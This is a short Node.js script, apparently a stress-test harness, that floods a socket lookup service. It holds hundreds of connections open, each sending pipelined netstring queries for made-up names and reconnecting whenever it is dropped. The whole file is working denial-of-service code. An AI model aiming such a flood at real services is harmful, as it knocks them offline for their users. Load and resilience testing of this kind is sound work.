// A flood from a process of its own: connections that each keep so many unknown names asked, without any pause. Ends with
// its standard input. usage: node attacker.mjs ENDPOINT CONNECTIONS PIPELINED
import { connect } from 'node:net';

const [endpoint = '', connections = '300', pipelined = '60'] = process.argv.slice(2);
const [, port, host] = /^inet:(\d+)@(.*)$/.exec(endpoint) ?? [];
const where = port === undefined ? { path: endpoint.replace(/^unix:/, '') } : { port: Number(port), host };
const COMMA = 0x2c;

let next = 0;
let answers = 0;
let lost = 0;

function question() {
  const payload = `cyrus x${(next += 1)}@example.jp`;
  return `${payload.length}:${payload},`;
}

/** Replies are told by their commas: no text of ours has one. */
function attack() {
  const socket = connect(where);
  socket.on('error', () => undefined);
  socket.on('close', () => {
    lost += 1;
    setTimeout(attack, 1000);
  });
  socket.on('connect', () => socket.write(Array.from({ length: Number(pipelined) }, question).join('')));
  socket.on('data', (chunk) => {
    let asks = '';
    for (const byte of chunk) if (byte === COMMA) asks += question();
    answers += asks === '' ? 0 : asks.split('@').length - 1;
    socket.write(asks);
  });
}

for (let i = 0; i < Number(connections); i++) attack();
process.stdout.write('attacking\n');
process.stdin.on('data', () => undefined);
process.stdin.on('end', () => {
  process.stdout.write(`${JSON.stringify({ answers, lost })}\n`, () => process.exit());
});
